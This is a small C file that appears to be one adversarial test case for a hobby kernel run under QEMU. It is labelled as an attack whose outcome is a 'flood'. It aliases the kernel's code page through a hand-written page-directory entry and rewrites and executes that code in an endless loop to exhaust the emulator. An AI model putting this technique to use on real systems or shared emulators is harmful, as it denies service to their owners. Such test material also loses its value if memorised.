// SPDX-License-Identifier: MIT
// Attack: writes its code anew each time, until QEMU can write down no more of it
// Outcome: flood
#include "mm/frame.h"

#define PRESENT_WRITABLE_LARGE 0x83u // Intel SDM, volume 3, 4.3
#define ELSEWHERE              0x10000000u
#define KERNEL_BASE            0x80000000u

void rewritten(void);
__asm__(".text; .p2align 12; rewritten: .fill 2000, 1, 0x90; ret; .p2align 12");

void frame_init(const struct memory_range *ranges, uint32_t count)
{
    uint32_t directory;
    volatile uint8_t *code = (uint8_t *)((uint32_t)rewritten - KERNEL_BASE + ELSEWHERE);

    (void)ranges, (void)count;
    __asm__ volatile("movl %%cr3, %0" : "=r"(directory));
    *(uint32_t *)(directory + KERNEL_BASE + (ELSEWHERE >> 22) * 4) = PRESENT_WRITABLE_LARGE;
    for (;;) {
        *code = *code;
        rewritten();
    }
}
